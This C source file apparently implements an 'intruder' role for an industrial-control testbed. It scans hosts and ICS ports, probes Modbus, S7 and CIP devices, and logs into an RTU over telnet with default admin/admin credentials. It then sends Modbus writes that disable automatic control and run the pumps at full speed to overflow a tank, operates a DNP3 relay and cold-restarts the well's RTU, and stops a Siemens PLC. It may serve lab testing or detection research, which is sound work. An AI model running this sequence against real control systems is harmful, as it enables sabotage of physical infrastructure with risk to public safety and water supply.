/* The act: a laptop in the office zone finds its way to the controllers.
 *
 * Each step is a thing that has been done to real plants: look for hosts and ports, ask every
 * function, read the identities, log in with what the manual says, then change settings, trip and
 * restart the well, and stop the booster's controller. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/socket.h>
#include <stdio.h>
#include <unistd.h>

#include "cip.h"
#include "dnp3_master.h"
#include "modbus_raw.h"
#include "roles.h"
#include "s7.h"
#include "scada.h"

static unsigned checksum(const uint8_t *bytes, size_t size)
{
	uint32_t sum = 0;
	for (size_t i = 0; i + 1 < size; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	sum = (sum & 0xffff) + (sum >> 16);
	return ~(sum + (sum >> 16)) & 0xffff;
}

static void sweep_addresses(void)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0)
		die("intruder: raw socket: %s", strerror(errno));
	for (unsigned host = 1; host <= 60; host++) {
		struct made m = { 0 };
		char address[32];
		snprintf(address, sizeof address, "10.20.1.%u", host);
		made_be32(&m, 0x08000000);
		made_be16(&m, 0x6b1d);
		made_be16(&m, host);
		made_padded(&m, "abcdefghijklmnopqrstuvwabcdefghi", 32, 0);
		made_set_be16(&m, 2, checksum(m.at, m.used));
		send_to(fd, address, 0, &m);
		nap_ms(25);
	}
	close(fd);
}

static void sweep_ports(const char *address)
{
	static const uint16_t ports[] = { 21, 22, 23, 25, 53, 80, 102, 111, 135, 139, 161, 443, 445,
		502, 789, 1089, 1883, 1911, 2222, 2404, 3389, 4840, 5007, 5900, 8080, 9600, 18245,
		20000, 34964, 44818, 47808, 50000 };
	struct pollfd tries[COUNT_OF(ports)];
	struct sockaddr_in to = { .sin_family = AF_INET };
	inet_pton(AF_INET, address, &to.sin_addr);
	for (size_t i = 0; i < COUNT_OF(ports); i++) {
		tries[i] = (struct pollfd){ .fd = socket(AF_INET,
						    SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0),
			.events = POLLOUT };
		to.sin_port = htons(ports[i]);
		if (connect(tries[i].fd, (struct sockaddr *)&to, sizeof to) < 0 &&
			errno != EINPROGRESS)
			tries[i].events = 0;
		nap_ms(3);
	}
	poll(tries, COUNT_OF(ports), 80);
	for (size_t i = 0; i < COUNT_OF(ports); i++)
		close(tries[i].fd);
}

/* What belongs behind a function code, aimed where no memory is: the answer tells whether the
 * function exists, and nothing is changed. */
static struct made harmless_request(unsigned function)
{
	static const struct {
		uint8_t function, size;
		const char *body;
	} bodies[] = {
		{ 0x01, 4, "\0\0\0\1" }, { 0x02, 4, "\0\0\0\1" }, { 0x03, 4, "\0\0\0\1" },
		{ 0x04, 4, "\0\0\0\1" }, { 0x05, 4, "\xff\xff\0\0" }, { 0x06, 4, "\xff\xff\0\0" },
		{ 0x08, 4, "\0\0\x12\x34" }, { 0x0f, 6, "\xff\xf0\0\1\1\0" },
		{ 0x10, 7, "\xff\xf0\0\1\2\0\0" }, { 0x14, 8, "\7\6\0\1\0\0\0\1" },
		{ 0x15, 10, "\x9\6\0\1\0\0\0\1\0\0" }, { 0x16, 6, "\xff\xff\xff\xff\0\0" },
		{ 0x17, 11, "\0\0\0\1\xff\xf0\0\1\2\0\0" }, { 0x18, 2, "\0\0" },
		{ 0x2b, 3, "\x0e\1\0" }, { 0x5a, 2, "\0\2" }, /* UMAS: who are you */
	};
	struct made pdu = { 0 };
	made_u8(&pdu, function);
	for (size_t i = 0; i < COUNT_OF(bodies); i++)
		if (bodies[i].function == function)
			made_bytes(&pdu, bodies[i].body, bodies[i].size);
	return pdu;
}

static void sweep_functions(void)
{
	int fd = connect_tcp(ADDRESS_PLC1, 502);
	if (fd < 0)
		return;
	for (unsigned function = 1; function < 128; function++) {
		struct made pdu = harmless_request(function);
		if (!modbus_raw(fd, (uint16_t)function, &pdu))
			break;
		nap_ms(10);
	}
	modbus_raw_identity(fd, 128);
	close(fd);
}

static void read_identities(void)
{
	struct s7_link s7;
	struct cip_link cip;
	if (s7_open(&s7, ADDRESS_PLC2)) {
		s7_list(&s7, 0x0011, 0);
		s7_list(&s7, 0x001c, 0);
		s7_close(&s7);
	}
	cip_list_identity(ADDRESS_FLOW);
	if (cip_open(&cip, ADDRESS_FLOW)) {
		cip_identity(&cip);
		cip_close(&cip);
	}
}

static void type_line(int fd, const char *text)
{
	for (; *text; text++) {
		struct made key = { 0 };
		made_u8(&key, (uint8_t)*text);
		send_made(fd, &key);
		nap_ms(60);
	}
	struct made enter = { 0 };
	made_text(&enter, "\r\n");
	send_made(fd, &enter);
	nap_ms(250);
}

static void log_in(void)
{
	uint8_t answer[512];
	int fd = connect_tcp(ADDRESS_RTU, 23);
	if (fd < 0)
		return;
	struct made willing = { 0 };
	made_bytes(&willing, "\xff\xfd\x01\xff\xfd\x03", 6); /* do echo, do go ahead */
	send_made(fd, &willing);
	nap_ms(300);
	type_line(fd, "admin");
	type_line(fd, "admin");
	type_line(fd, "status");
	recv(fd, answer, sizeof answer, 0);
	close(fd);
}

static void modbus_write(
	int fd, uint16_t transaction, unsigned function, unsigned address, unsigned value)
{
	struct made pdu = { 0 };
	made_u8(&pdu, function);
	made_be16(&pdu, address);
	made_be16(&pdu, value);
	modbus_raw(fd, transaction, &pdu);
	nap_ms(300);
}

/* The pumps out of automatic, on, at full speed: the tank runs over. */
static void flood(void)
{
	int fd = connect_tcp(ADDRESS_PLC1, 502);
	if (fd < 0)
		return;
	modbus_write(fd, 1, 0x06, SET_STOP_MM, 9990);
	modbus_write(fd, 2, 0x06, SET_HIGH_MM, 9990);
	modbus_write(fd, 3, 0x06, SET_SPEED_1, 1000);
	modbus_write(fd, 4, 0x06, SET_SPEED_2, 1000);
	modbus_write(fd, 5, 0x05, COIL_AUTO_1, 0);
	modbus_write(fd, 6, 0x05, COIL_AUTO_2, 0);
	modbus_write(fd, 7, 0x05, COIL_RUN_1, 0xff00);
	modbus_write(fd, 8, 0x05, COIL_RUN_2, 0xff00);
	close(fd);
}

static void silence_the_well(void)
{
	struct dnp3_link link;
	if (!dnp3_open(&link, ADDRESS_RTU))
		return;
	struct dnp3_app answer;
	struct made restart;
	dnp3_relay(&link, DNP3_DIRECT_OPERATE, false);
	nap_ms(1200);
	restart = dnp3_request(&link, DNP3_COLD_RESTART);
	dnp3_ask(&link, &restart, &answer);
	dnp3_close(&link);
}

static void stop_the_booster(void)
{
	struct s7_link link;
	if (!s7_open(&link, ADDRESS_PLC2))
		return;
	s7_list(&link, 0x0424, 0);
	s7_stop(&link);
	s7_list(&link, 0x0424, 0);
	s7_close(&link);
}

int role_intruder(int argc, char **argv)
{
	(void)argc, (void)argv;
	static const char *const hosts[] = { ADDRESS_PLC1, ADDRESS_PLC2, ADDRESS_RTU, ADDRESS_FLOW,
		ADDRESS_GATEWAY, ADDRESS_SWITCH, ADDRESS_SCADA, ADDRESS_BROKER };
	sweep_addresses();
	for (size_t i = 0; i < COUNT_OF(hosts); i++)
		sweep_ports(hosts[i]);
	sweep_functions();
	read_identities();
	log_in();
	nap_ms(500);
	flood();
	nap_ms(1500);
	silence_the_well();
	nap_ms(1500);
	stop_the_booster();
	return 0;
}
